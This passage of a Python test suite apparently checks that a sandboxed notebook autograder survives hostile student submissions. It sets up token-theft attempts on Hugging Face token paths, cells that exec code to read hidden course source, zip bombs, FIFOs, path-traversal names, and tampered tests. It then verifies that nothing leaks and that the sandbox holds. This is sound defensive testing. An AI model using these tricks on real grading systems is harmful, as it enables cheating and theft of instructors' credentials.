    token_paths = [str(hf_home / "token"), str(Path.home() / ".cache" / "huggingface" / "token")]
    submit("h_token", "guarded", _patch("double", DOUBLE, _body(STEAL_TOKEN.replace("TOKEN_PATHS", repr(token_paths)))))

    submit("h_display_result", "guarded", _patch("double", DOUBLE, _body(DISPLAY_RESULT)))
    submit("h_finalizer", "guarded", _patch("double", DOUBLE, _body(FINALIZER)))
    submit("h_shadow_globals", "guarded", _patch("double", DOUBLE, _body(SHADOW_GLOBALS)))
    submit("h_late_cloak", "guarded", _patch("double", DOUBLE, _body(LATE_CLOAK)))
    late = submit("h_irl_late_hook", "maxent_irl", blank=True)
    notebook = nbformat.read(late, as_version=4)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in IRL_LATE_HOOK:
            cell.source = IRL_LATE_HOOK[grade_id]
    nbformat.write(notebook, late)

    irl = submit("h_irl_source", "maxent_irl", blank=True)
    notebook = nbformat.read(irl, as_version=4)
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            cell.source = f"exec(_steal({meta['grade_id']!r}))"
    notebook.cells.insert(1, new_code_cell(IRL_STEAL))
    nbformat.write(notebook, irl)

    pasted = submit("h_pasted", "toy_add")  # the answers pasted into a fresh notebook: no nbgrader metadata
    answers = [c for c in nbformat.read(pasted, as_version=4).cells
               if c.metadata.get("nbgrader", {}).get("grade_id") in ("add", "q_why")]
    fresh = new_notebook(cells=[new_markdown_cell("my homework")] + [
        (new_code_cell if c.cell_type == "code" else new_markdown_cell)(c.source) for c in answers])
    nbformat.write(fresh, pasted)
    fifo = submit("h_fifo", "toy_add").parent
    os.mkfifo(fifo / "data.pipe")

    mangled = submit("cells_mangled", "toy_add", _patch("add", "return a + b", "return a - b  # first copy, wrong"))
    notebook = nbformat.read(mangled, as_version=4)
    add_cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "add")
    fixed = nbformat.from_dict(json.loads(json.dumps(add_cell)))
    fixed.id, fixed.source = "fixed-copy", fixed.source.replace("a - b  # first copy, wrong", "a + b")
    test_cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_add")
    question = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q_why")
    question.cell_type = "code"  # retyped answer cell
    question.outputs, question.execution_count = [], None
    notebook.cells = [c for c in notebook.cells if c is not test_cell]  # deleted test cell
    notebook.cells.insert(notebook.cells.index(add_cell) + 1, fixed)  # duplicated answer cell
    nbformat.write(notebook, mangled)

    edited = submit("test_edited", "toy_add", _patch("add", "return a + b", "return a - b"))
    notebook = nbformat.read(edited, as_version=4)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_add":
            cell.source = "pass  # no tests here"
    nbformat.write(notebook, edited)

    (subs / "not_json" / "toy_add").mkdir(parents=True)
    (subs / "not_json" / "toy_add" / "toy_add.ipynb").write_text("{ this is not json")
    (subs / "not_notebook" / "toy_add").mkdir(parents=True)
    (subs / "not_notebook" / "toy_add" / "toy_add.ipynb").write_text(json.dumps({"hello": "world"}))

    # --- through collect: a Canvas ZIP (toy_add), a plain folder download (toy_add), a Canvas ZIP (guarded)
    raw = root / "canvas_toy"
    raw.mkdir()
    submit("", "toy_add", folder=raw / "tmp")
    good_toy = raw / "tmp" / "toy_add.ipynb"
    shutil.copy(good_toy, raw / ".._3301_4401_toy_add.ipynb")
    shutil.copy(good_toy, raw / "latecomer_late_3302_4402_toy_add.ipynb")
    (raw / "latecomer_late_3302_4403_timestamp.txt").write_text("2020-01-01 00:00:00.000000 UTC")
    shutil.copy(good_toy, raw / "bomber_3303_4404_toy_add.ipynb")
    _zip_bomb(raw / "bomber_3303_4405_artifacts.zip")
    canvas = root / "canvas_toy.zip"
    with zipfile.ZipFile(canvas, "w") as handle:
        for path in sorted(raw.iterdir()):
            if path.is_file():
                handle.write(path, f"submissions/{path.name}")
    report_a = collect(canvas, "toy_add", subs)

    plain = root / "plain_toy"
    submit("", "toy_add", folder=plain / "Zoë Müller")
    submit("", "toy_add", folder=plain / "Zoé Müller", blank=True)
    person = submit("", "toy_add", folder=plain / "Fifo Person").parent
    os.mkfifo(person / "results.pipe")
    report_b = collect(plain, "toy_add", subs)

    packed = root / "pack"
    submit("", "guarded", folder=packed / "guarded_submission", adapter=False)
    _adapter(packed / "guarded_submission", where="artifacts/artifacts/adapter")
    raw_guarded = root / "canvas_guarded"
    raw_guarded.mkdir()
    with zipfile.ZipFile(raw_guarded / "packer_3305_4406_guarded_submission.zip", "w") as handle:
        for path in sorted((packed / "guarded_submission").rglob("*")):
            if path.is_file():
                handle.write(path, str(path.relative_to(packed)))
    report_c = collect(raw_guarded, "guarded", subs)

    submit("zz_ref_guarded", "guarded")
    submit("zz_ref_toy", "toy_add")
    submit("zz_ref_irl", "maxent_irl")
    submit("zz_blank_guarded", "guarded", blank=True, adapter=False)
    submit("zz_blank_toy", "toy_add", blank=True)
    submit("zz_blank_irl", "maxent_irl", blank=True)

    zoe = {meta["name"]: folder for folder, meta in json.loads((subs / "_collect_report.json").read_text())
           ["submissions"].items() if meta["name"].startswith("Zo")}
    expected = dict(EXPECTED)
    expected[zoe["Zoë Müller"]] = ("toy_add", 2, "ok", None)
    expected[zoe["Zoé Müller"]] = ("toy_add", 0, "failed-tests", None)

    out = root / "out"
    lines = []
    started = time.perf_counter()
    try:
        results = autograde(subs, out, assignments, workers=2, profile="tiny", log=lines.append)
    finally:
        for key, value in saved_env.items():
            os.environ.pop(key, None) if value is None else os.environ.__setitem__(key, value)
    seconds = time.perf_counter() - started
    return {"results": {r.student: r for r in results}, "out": out, "subs": subs, "root": root, "beside": beside,
            "expected": expected, "reports": (report_a, report_b, report_c), "zoe": zoe, "log": lines,
            "seconds": seconds, "isolation": probe(), "assignments": assignments, "hf_home": hf_home}


# without isolation (a host with no namespaces) a kernel can read the course copy: these
# submissions prove isolation, so their expectations are checked in a test of their own that skips there
NEEDS_ISOLATION = ("h_escape", "h_read_source", "h_irl_source")


def _wrong_results(hostile, students):
    results, expected = hostile["results"], hostile["expected"]
    wrong = {}
    for student in students:
        assignment, score, status, phrase = expected[student]
        result = results[student]
        if (result.assignment, result.score, result.status) != (assignment, score, status) or \
                (phrase and not any(phrase in line for line in result.feedback)):
            wrong[student] = (result.assignment, result.score, result.status, result.feedback)
    return wrong


def test_every_submission_gets_its_score_status_and_reason(hostile):
    results, expected = hostile["results"], hostile["expected"]
    assert set(expected) <= set(results), sorted(set(results) ^ set(expected))
    wrong = _wrong_results(hostile, [s for s in expected if s not in NEEDS_ISOLATION])
    assert not wrong, json.dumps(wrong, indent=1)
    for student in CORRECT:
        if student in results:
            assert results[student].score == results[student].max_score, student


def test_submissions_that_read_the_course_copy_find_nothing(hostile):
    if not hostile["isolation"].isolated:
        pytest.skip(f"this host cannot isolate kernels: {hostile['isolation'].reason}")
    wrong = _wrong_results(hostile, NEEDS_ISOLATION)
    assert not wrong, json.dumps(wrong, indent=1)


def test_no_hidden_line_or_reference_answer_reaches_a_student(hostile):
    out = hostile["out"]
    leaks = []
    for path in (out / "feedback").rglob("*"):
        if path.is_file():
            text = path.read_text(errors="replace")
            leaks += [(str(path.relative_to(out)), line) for line in HIDDEN_LINES + ("BEGIN HIDDEN TESTS",)
                      if line in text]
    assert not leaks, leaks
    # the notebook printed its test's whole source: it reached the page only as "[hidden line]"
    page = (out / "feedback" / "h_read_source" / "toy_add" / "toy_add.html").read_text()
    assert "[hidden line]" in page and "course material found:" in page
    if hostile["isolation"].isolated:
        assert "course material found: none" in page


def test_input_history_holds_no_test_cell(hostile):
    """Test cells run outside IPython's input history: a later cell finds only students' cells there."""
    notebook = nbformat.read(hostile["out"] / "autograded" / "h_history" / "guarded" / "guarded.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in notebook.cells for o in c.get("outputs", []))
    assert "history reversed:" in printed and "def triple"[::-1] in printed, printed[:2000]  # the attack ran
    history = printed.split("history reversed:", 1)[1]
    secrets = ("double(np.arange(4))", "triple([-1.0])", "double: halves", "BEGIN HIDDEN TESTS", "exact_array",
               "assert np.allclose(double", "torch.allclose(torch.as_tensor(triple", "__autograder_guard")
    assert not [line for line in secrets if line[::-1] in history or line in history], history[:2000]


def test_isolation_blocks_escapes(hostile):
    results, out = hostile["results"], hostile["out"]
    if not hostile["isolation"].isolated:
        pytest.skip(f"this host cannot isolate kernels: {hostile['isolation'].reason}")
    notebook = nbformat.read(out / "autograded" / "h_escape" / "guarded" / "guarded.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in notebook.cells for o in c.get("outputs", []))
    report = ast.literal_eval(printed.split("escape report:", 1)[1].strip().splitlines()[0])
    assert not [line for line in report if line.startswith(("killed", "connected", "wrote 200"))], report
    assert "disk full (OSError)" in report and "no network (OSError)" in report, report
    assert not [line for line in report if line.startswith("wrote") and not line.startswith(("wrote /home/",))], report
    assert results["h_escape"].isolation.startswith("bubblewrap")


def test_nothing_written_outside_out_and_only_by_the_grader(hostile):
    import psutil
    from conftest import in_background_batch

    from autograder.isolation.spec import UID_BASE

    root, out, subs, beside = hostile["root"], hostile["out"], hostile["subs"], hostile["beside"]
    # a detached process of a graded notebook would still be running (and writing) now; the
    # sandbox kills its whole tree with the job, so none may be left once the batch returned.
    # The mutation batch grading beside this one has sandboxed processes of its own, and one of
    # its jobs may be ending during a scan: a process counts only if it is alive (a zombie runs
    # nothing; an orphaned one stays a zombie where PID 1 does not reap) in three scans a second apart.
    def sandboxed():
        found = {}
        for proc in psutil.process_iter(["uids", "cmdline", "status", "create_time"]):
            try:
                info = proc.info
                if info["uids"] is not None and info["uids"].real >= UID_BASE \
                        and info["status"] != psutil.STATUS_ZOMBIE and not in_background_batch(proc):
                    found[(proc.pid, info["create_time"])] = info
            except psutil.Error:
                pass
        return found
    left = sandboxed()
    for _ in range(2):
        if not left:
            break
        time.sleep(1)
        left = {key: info for key, info in sandboxed().items() if key in left}
    assert list(left.values()) == []
    assert (beside / "keep.txt").read_text() == "untouched" and sorted(p.name for p in beside.iterdir()) == ["keep.txt"]
    assert sorted(p.name for p in root.iterdir() if not p.name.startswith(("canvas", "plain", "pack", "course"))) == \
        ["beside", "hf-home", "out", "subs"]
    expected_top = {"feedback", "logs", "submitted", "autograded", "source", "release", "gradebook.db",
                    "nbgrader_config.py", "grades.csv", "lms_grades.csv", "lms.json", ".feedback-bodies"}
    assert {p.name for p in out.iterdir()} <= expected_top, {p.name for p in out.iterdir()} - expected_top
    me = os.getuid()
    for folder in (out, subs):
        for path in folder.rglob("*"):
            if not path.is_symlink():
                assert path.lstat().st_uid == me, path
            if path.is_file() and path.stat().st_size < 5_000_000:  # what the detached daemon would write
                assert path.read_text(errors="replace").strip() != PWNED, path


def test_grades_csv_gradebook_and_lms_file(hostile):
    from nbgrader.api import Gradebook

    out, results = hostile["out"], hostile["results"]
    rows = {row["student"]: row for row in csv.DictReader(open(out / "grades.csv"))}
    assert set(rows) == set(results)
    assert rows["infinite_loop"]["status"] == "timeout" and rows["infinite_loop"]["test_double"] == "2"
    assert rows["latecomer"]["late"] == "late" and rows["latecomer"]["timestamp_source"] == "canvas _late flag"
    assert rows["zz_ref_toy"]["late"] == ""
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
        graded = {(s.student.id, s.assignment.name): s.score for a in ("toy_add", "guarded", "maxent_irl")
                  for s in gb.assignment_submissions(a)}
    assert graded[("zz_ref_guarded", "guarded")] == 6 and graded[("zz_ref_toy", "toy_add")] == 2
    assert graded[("h_tamper", "guarded")] == 4 and graded[("not_json", "toy_add")] == 0
    lms = {row["student"]: row for row in csv.DictReader(open(out / "lms_grades.csv"))}
    latecomer = lms["latecomer"]
    assert (latecomer["lms"], latecomer["lms_user_id"], latecomer["late"]) == ("canvas", "3302", "late")
    assert lms["unnamed"]["name"] == ".." and lms["unnamed"]["lms_user_id"] == "3301"
    export = subprocess.run([sys.executable, "-m", "nbgrader", "export"], cwd=out, capture_output=True, text=True)
    assert export.returncode == 0, export.stdout + export.stderr
    assert (out / "nbgrader_grades.csv").exists()  # nbgrader's export never replaces ours
    assert list(csv.DictReader(open(out / "grades.csv"))) and "total" in next(csv.DictReader(open(out / "grades.csv")))


def test_collect_reports_names_collisions_lateness_and_refused_archives(hostile):
    report_a, report_b, report_c = hostile["reports"]
    subs, zoe = hostile["subs"], hostile["zoe"]
    assert set(report_a.students) == {"unnamed", "latecomer", "bomber"}
    assert report_a.submissions["unnamed"]["name"] == ".."
    assert report_a.submissions["latecomer"]["late"] is True
    notes = " ".join(report_a.submissions["bomber"]["notes"])
    assert "zip bomb" in notes and not (subs / "bomber" / "toy_add" / "zeros.bin").exists()
    assert "dropped the uploaded timestamp.txt" in " ".join(report_a.submissions["latecomer"]["notes"])
    assert len(set(zoe.values())) == 2 and any("both sanitise to 'zoe_muller'" in c for c in report_b.collisions)
    assert "a FIFO" in " ".join(report_b.submissions["fifo_person"]["notes"])
    assert (subs / "packer" / "guarded" / "guarded.ipynb").exists()
    assert not (hostile["root"] / "toy_add").exists() and not (subs.parent / "unnamed").exists()


def test_feedback_of_repaired_and_restored_submissions(hostile):
    results = hostile["results"]
    lines = " ".join(results["patched_compare"].feedback)
    for name in ("numpy.allclose", "numpy.testing.assert_allclose", "torch.allclose", "print", "abs"):
        assert name in lines, lines
    repatch = " ".join(results["h_repatch"].feedback)
    for name in ("sys.modules['autograder.kernel.guard']", "numpy._core.numeric.isclose", "background thread"):
        assert name in repatch, repatch
    assert "ast_transformers" in " ".join(results["h_tamper"].feedback)
    for student in ("infinite_loop", "os_exit", "killed_kernel"):
        cells = results[student].cells
        assert cells["test_double"] == [2.0, 2.0] and cells["test_adapter"][0] == 0, (student, cells)
    page = (hostile["out"] / "feedback" / "huge_output" / "guarded" / "guarded.html").read_text()
    assert "output truncated" in page


def test_rerun_updates_the_gradebook_instead_of_duplicating(hostile, tmp_path):
    from nbgrader.api import Gradebook

    from autograder.authoring.course import fill_release
    from autograder.grading.batch import autograde

    out, subs, assignments = hostile["out"], hostile["subs"], hostile["assignments"]
    again = tmp_path / "again"
    shutil.copytree(subs / "test_edited", again / "test_edited")
    course = hostile["root"] / "course"
    fill_release(course / "notebooks" / "toy_add" / "toy_add.ipynb", course / "solutions" / "toy_add" / "toy_add.ipynb",
                 again / "test_edited" / "toy_add" / "toy_add.ipynb")
    rerun = autograde(again, out, assignments, workers=1, profile="tiny")
    assert rerun[0].score == 2
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
        subs_toy = [s for s in gb.assignment_submissions("toy_add") if s.student.id == "test_edited"]
        assert len(subs_toy) == 1 and subs_toy[0].score == 2
        assert len(gb.students) == len(hostile["results"])
    rows = {row["student"]: row for row in csv.DictReader(open(out / "grades.csv"))}
    assert rows["test_edited"]["score"] == "2" and len(rows) == len(hostile["results"])


def test_no_grader_secret_or_host_path_reaches_a_student(hostile):
    """The kernel that went looking for the instructor's token found none, the token's file and
    folder keep their modes, and no feedback file names the grader's folders."""
    from autograder.manifest import REPO_ROOT

    out, hf_home = hostile["out"], hostile["hf_home"]
    printed = "".join(o.get("text", "") for c in nbformat.read(
        out / "autograded" / "h_token" / "guarded" / "guarded.ipynb", as_version=4).cells for o in c.get("outputs", []))
    assert "stolen:" in printed  # the attack ran
    # the instructor's autograded copy keeps the student's source, which names hf-home itself;
    # what the kernel printed there and everything a student gets back must hold neither secret nor path
    for path in [*(out / "feedback").rglob("*"), *(out / "autograded").rglob("*")]:
        if path.is_file():
            text = path.read_text(errors="replace")
            assert TOKEN not in text, path
            if "feedback" in path.relative_to(out).parts[:1]:
                for host in (str(REPO_ROOT), sys.prefix, str(hf_home), str(Path.home()) + "/"):
                    assert host not in text, (path, host)
    for host in (str(REPO_ROOT), sys.prefix, str(hf_home), str(Path.home()) + "/"):
        assert host not in printed, host  # the kernel's environment names none of the grader's folders
    assert oct(os.stat(hf_home / "token").st_mode & 0o777) == "0o600"
    assert oct(os.stat(hf_home).st_mode & 0o777) == "0o700"
